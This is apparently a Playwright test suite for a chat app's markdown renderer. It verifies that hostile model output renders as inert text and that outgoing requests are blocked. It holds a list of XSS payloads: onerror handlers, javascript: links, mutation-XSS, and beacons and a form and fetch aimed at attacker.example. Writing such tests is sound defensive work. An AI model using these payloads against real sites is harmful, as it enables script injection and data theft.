"""A model says what a document told it to say. Nothing of it acts in the page, and nothing leaves it."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from client.outputs import Outputs
from tests.web.conftest import Chat, fill_login_page

HOSTILE = [
    "<img src=x onerror=window.owned=1>",
    "<script>window.owned=1</script>",
    "<svg onload=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<a href='javascript:window.owned=1'>x</a>",
    "[x](javascript:window.owned=1)",
    "[x](JaVaScRiPt&#58;window.owned=1)",
    "[x](data:text/html,<script>opener.owned=1</script>)",
    "![x](https://attacker.example/?secret)",
    '![x](x"onerror="window.owned=1)',
    "<form action=https://attacker.example/><button>Go</button></form>",
    "<style>*{background:url(https://attacker.example/)}</style>",
    "<base href=https://attacker.example/>",
    "<details open ontoggle=window.owned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "```html <script>window.owned=1</script> ```",
]

FORBIDDEN = "img, script, svg, iframe, form, style, base, button, details, math, object, embed"


@pytest.fixture(scope="module")
def chat_once(browser: Browser, outputs: Outputs) -> Iterator[Chat]:
    """One signed-in page for all pieces; each is asked in a conversation of its own."""
    context = browser.new_context(locale="en-GB")
    page = context.new_page()
    page.goto(outputs.website_url)
    fill_login_page(page, outputs)
    yield Chat(page)
    context.close()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_is_text(chat_once: Chat, hostile: str) -> None:
    page = chat_once.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("button", name="New conversation").click()
    chat_once.ask(f"{hostile} [words=40 pause=0]")
    inside = page.locator(".answer .markdown")
    expect(inside).to_contain_text("This answer comes from")
    chat_once.wait_until_done()
    assert inside.locator(FORBIDDEN).count() == 0
    links = inside.evaluate("element => [...element.querySelectorAll('a')].map(one => [one.href, one.rel])")
    assert all(re.match(r"https?:|mailto:|$", href) and rel == "noopener noreferrer nofollow" for href, rel in links)
    names = inside.evaluate("element => [...element.querySelectorAll('*')].flatMap(one => one.getAttributeNames())")
    assert not [name for name in names if name.startswith("on") or name in ("style", "src", "srcdoc", "action")]
    assert page.evaluate("window.owned") is None
    assert not [url for url in asked if "attacker" in url]


def test_nothing_but_the_sanitiser_may_write_html_into_the_page(chat_once: Chat) -> None:
    """The content policy holds what a mistake in this page would let through."""
    script = """() => {
      try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.owned=1>'); return 'written'; }
      catch (error) { return error.name; }
    }"""
    assert chat_once.page.evaluate(script) == "TypeError"
    refused = "fetch('https://attacker.example/').then(() => 'sent', error => error.name)"
    assert chat_once.page.evaluate(refused) == "TypeError"
    assert chat_once.page.evaluate("window.owned") is None


def test_ordinary_markdown_is_formatted(chat_once: Chat) -> None:
    chat_once.page.get_by_role("button", name="New conversation").click()
    chat_once.ask("**bold** *em* `code` ~~gone~~ [link](https://example.com/) [words=20 pause=0]")
    inside = chat_once.page.locator(".answer .markdown")
    for element, words in (("strong", "bold"), ("em", "em"), ("code", "code"), ("del", "gone"), ("a", "link")):
        expect(inside.locator(element).first).to_have_text(words)
